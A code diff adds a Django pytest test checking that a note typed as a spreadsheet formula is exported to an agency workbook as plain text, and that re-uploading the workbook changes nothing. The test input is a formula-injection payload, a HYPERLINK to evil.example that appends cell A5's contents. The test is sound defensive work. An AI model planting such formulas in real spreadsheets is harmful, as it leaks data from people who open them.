@@ -190,3 +190,22 @@ def test_workbook_is_for_agency_staff_only(world, reviewer, leader, client_as):
         )
         assert resp.status_code in (400, 403)
     assert not Submission.objects.exists()
+
+
+@pytest.mark.django_db
+def test_saved_text_comes_back_as_text_never_a_formula(world, user_a, client_as):
+    """A note typed like a formula is written back to the agency's workbook as text, and
+    uploading that workbook unchanged changes nothing."""
+    hostile = '=HYPERLINK("https://evil.example/"&A5,"Bấm vào đây")'
+    services.submission_create(
+        actor=user_a,
+        indicator=world.ratio,
+        period=world.period,
+        values={"numerator": "1", "denominator": "2"},
+        note=hostile,
+    )
+    c = client_as(user_a)
+    wb = download(c, world)
+    cell = wb["1.1"]["C5"]
+    assert cell.value == hostile and cell.data_type == "s"
+    assert "không có thay đổi" in preview(c, world, to_upload(wb)).content.decode()
